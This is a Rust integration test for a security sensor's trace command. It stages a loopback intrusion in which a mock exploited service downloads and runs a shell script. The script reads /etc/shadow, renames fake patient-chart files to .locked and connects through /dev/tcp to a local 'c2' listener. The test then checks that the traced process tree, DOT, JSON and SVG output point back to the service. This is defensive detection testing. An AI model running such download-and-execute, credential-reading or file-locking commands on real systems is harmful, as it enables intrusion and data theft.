//! `sensor trace` on a small intrusion played on loopback: a stand-in for an exploited service
//! runs a shell that downloads a script over local HTTP and runs it; the script reads
//! /etc/shadow, writes and renames files and connects to a local listener. The real `sensor`
//! binary records it to `file:DIR`; `sensor trace DIR --connect 127.0.0.1:PORT` must lead back
//! to the service.

use std::{
    collections::{HashMap, HashSet},
    io::{Read as _, Write as _},
    net::TcpListener,
    path::Path,
    process::{Command, Stdio},
    time::Duration,
};

use nix::{sys::signal::Signal, unistd::Pid};
use sensor_tests::sensor_bin;

/// Serves `body` to every HTTP request on a loopback port; returns the port.
fn http_server(body: String) -> u16 {
    let l = TcpListener::bind("127.0.0.1:0").expect("bind http");
    let port = l.local_addr().expect("addr").port();
    std::thread::spawn(move || {
        for s in l.incoming() {
            let Ok(mut s) = s else { continue };
            let mut req = Vec::new();
            let mut buf = [0u8; 1024];
            while !req.windows(4).any(|w| w == b"\r\n\r\n") {
                match s.read(&mut buf) {
                    Ok(0) | Err(_) => break,
                    Ok(n) => req.extend_from_slice(&buf[..n]),
                }
            }
            let head = format!(
                "HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                body.len()
            );
            let _ = s.write_all(head.as_bytes()).and_then(|()| s.write_all(body.as_bytes()));
        }
    });
    port
}

/// The attacker's listener: accepts and reads whatever comes; returns the port.
fn listener() -> u16 {
    let l = TcpListener::bind("127.0.0.1:0").expect("bind c2");
    let port = l.local_addr().expect("addr").port();
    std::thread::spawn(move || {
        for mut s in l.incoming().flatten() {
            let _ = s.read_to_end(&mut Vec::new());
        }
    });
    port
}

/// `curl` when installed, else `wget` (busybox's or GNU).
fn downloader(url: &str, to: &Path) -> String {
    let has = |b: &str| {
        Command::new("sh").arg("-c").arg(format!("command -v {b}")).output().is_ok_and(|o| o.status.success())
    };
    if has("curl") {
        format!("curl -fsS -o {} {url}", to.display())
    } else if has("wget") {
        format!("wget -q -O {} {url}", to.display())
    } else {
        format!("busybox wget -q -O {} {url}", to.display())
    }
}

fn start_sensor(records: &Path) -> sensor_tests::SpawnedSensor {
    sensor_tests::spawn_sensor([
        "run".to_owned(),
        "--output".to_owned(),
        format!("file:{}", records.display()),
    ])
}

fn trace(records: &Path, args: &[&str]) -> String {
    let out = Command::new(sensor_bin()).arg("trace").arg(records).args(args).output().expect("sensor trace");
    assert!(out.status.success(), "trace {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8(out.stdout).expect("utf8")
}

/// DOT nodes (id → label) and edges; panics unless it is a digraph with balanced braces whose
/// edges join declared nodes.
fn parse_dot(dot: &str) -> (HashMap<String, String>, Vec<(String, String)>) {
    assert!(dot.starts_with("digraph "), "{dot}");
    let (mut depth, mut in_str, mut esc) = (0i32, false, false);
    for c in dot.chars() {
        match c {
            _ if esc => esc = false,
            '\\' if in_str => esc = true,
            '"' => in_str = !in_str,
            '{' if !in_str => depth += 1,
            '}' if !in_str => depth -= 1,
            _ => {}
        }
        assert!(depth >= 0, "unbalanced braces");
    }
    assert!(depth == 0 && !in_str, "unbalanced braces or quotes");
    let (mut nodes, mut edges) = (HashMap::new(), Vec::new());
    for line in dot.lines().map(str::trim) {
        let Some((a, rest)) = line.strip_prefix('"').and_then(|r| r.split_once('"')) else { continue };
        if let Some(rest) = rest.trim_start().strip_prefix("-> \"") {
            edges.push((a.to_owned(), rest.split_once('"').expect("edge").0.to_owned()));
        } else {
            let label =
                rest.split_once("label=\"").map_or("", |(_, l)| l.split_once("\", ").map_or(l, |x| x.0));
            nodes.insert(a.to_owned(), label.to_owned());
        }
    }
    for (a, b) in &edges {
        assert!(nodes.contains_key(a) && nodes.contains_key(b), "edge {a} -> {b} joins undeclared nodes");
    }
    (nodes, edges)
}

#[test]
fn trace_leads_from_a_connection_back_to_the_exploited_service() {
    let dir = sensor_tests::scratch_dir();
    let records = dir.path().join("records");
    let work = dir.path().join("work");
    let c2 = listener();
    let payload = dir.path().join("payload.sh");
    let script = format!(
        "#!/bin/bash\n\
         cat /etc/shadow > /dev/null\n\
         mkdir -p {w}\n\
         for i in 1 2 3 4 5 6; do echo \"patient $i\" > {w}/chart$i.docx; done\n\
         for i in 1 2 3 4 5 6; do mv {w}/chart$i.docx {w}/chart$i.docx.locked; done\n\
         exec 3<>/dev/tcp/127.0.0.1/{c2}\n\
         echo done >&3\n\
         exec 3>&-\n",
        w = work.display()
    );
    let http = http_server(script);
    let service = dir.path().join("service.sh");
    std::fs::write(
        &service,
        "#!/bin/sh\n# stand-in for an exploited service: runs what it was sent\nsh -c \"$1\"\necho served\n",
    )
    .expect("write service");
    let attack = format!(
        "{} && bash {}",
        downloader(&format!("http://127.0.0.1:{http}/payload.sh"), &payload),
        payload.display()
    );

    let mut sensor = start_sensor(&records);
    let mut svc =
        Command::new("/bin/sh").arg(&service).arg(&attack).stdout(Stdio::null()).spawn().expect("service");
    let svc_pid = svc.id();
    assert!(svc.wait().expect("wait service").success(), "the intrusion ran");
    assert!(work.join("chart6.docx.locked").exists());
    std::thread::sleep(Duration::from_millis(1500));
    nix::sys::signal::kill(Pid::from_raw(sensor.id() as i32), Signal::SIGTERM).expect("SIGTERM");
    assert!(sensor.wait().expect("wait sensor").success());

    let target = format!("127.0.0.1:{c2}");
    let tree = trace(&records, &["--connect", &target]);
    println!("{tree}");
    let me = std::process::id();
    for want in [
        format!("trace --connect {target}: "),
        format!("pid {svc_pid} "),
        format!("{}", service.display()),
        format!("pid {me} "),
        format!("bash {}", payload.display()),
        "▶ ".to_owned(),
        "read sensitive /etc/shadow".to_owned(),
        // One `mv` per file: six sibling processes folded into one node and one line.
        "6 processes (pids ".to_owned(),
        format!("renamed 6 files *.docx → *.locked under {}", work.display()),
        // The download happened beside the script: the shell that ran both lists it.
        format!("started {}", if attack.starts_with("curl") { "/usr/bin/curl" } else { "" }),
        format!("http://127.0.0.1:{http}/payload.sh"),
        format!("connected tcp to {target}"),
        "◀ match".to_owned(),
    ] {
        assert!(tree.contains(&want), "missing {want:?}");
    }
    // Root cause first: this test process (older than the sensor: known from the /proc seed
    // through the others' ancestry) comes before the service, the service before the script.
    let pos = |s: &str| tree.find(s).expect(s);
    assert!(pos(&format!("pid {me} ")) < pos(&format!("pid {svc_pid} ")));
    assert!(pos(&format!("pid {svc_pid} ")) < pos(&format!("bash {}", payload.display())));

    let dot = trace(&records, &["--connect", &target, "--format", "dot"]);
    let (nodes, edges) = parse_dot(&dot);
    let svc_id = nodes.keys().find(|k| k.starts_with(&format!("p{svc_pid}_"))).expect("service node").clone();
    let acting: Vec<&String> = nodes.iter().filter(|(_, l)| l.contains("ACTING")).map(|(k, _)| k).collect();
    assert_eq!(acting.len(), 1, "one acting process");
    assert!(nodes[acting[0]].contains("payload.sh"), "{}", nodes[acting[0]]);
    // The chain's edges: service → … → the script, every step an edge.
    let mut reach: HashSet<&str> = HashSet::from([svc_id.as_str()]);
    loop {
        let before = reach.len();
        for (a, b) in &edges {
            if reach.contains(a.as_str()) {
                reach.insert(b);
            }
        }
        if reach.len() == before {
            break;
        }
    }
    assert!(reach.contains(acting[0].as_str()), "no path from the service to the script in\n{dot}");
    assert!(
        edges.iter().any(|(a, b)| b == &svc_id && a.starts_with(&format!("p{me}_"))),
        "test → service edge"
    );

    let json: serde_json::Value =
        serde_json::from_str(&trace(&records, &["--connect", &target, "--format", "json"])).expect("json");
    assert!(json["processes"].as_array().expect("processes").iter().any(|p| p["pid"] == svc_pid));
    let svg = trace(&records, &["--connect", &target, "--format", "svg"]);
    assert!(svg.starts_with("<?xml") && svg.trim_end().ends_with("</svg>"));
}

#[test]
fn trace_with_no_match_exits_2() {
    let dir = sensor_tests::scratch_dir();
    std::fs::create_dir(dir.path().join("empty")).expect("mkdir");
    let out = Command::new(sensor_bin())
        .arg("trace")
        .arg(dir.path().join("empty"))
        .args(["--pid", "1"])
        .output()
        .expect("sensor trace");
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stdout).starts_with("no record matches --pid 1"));
}
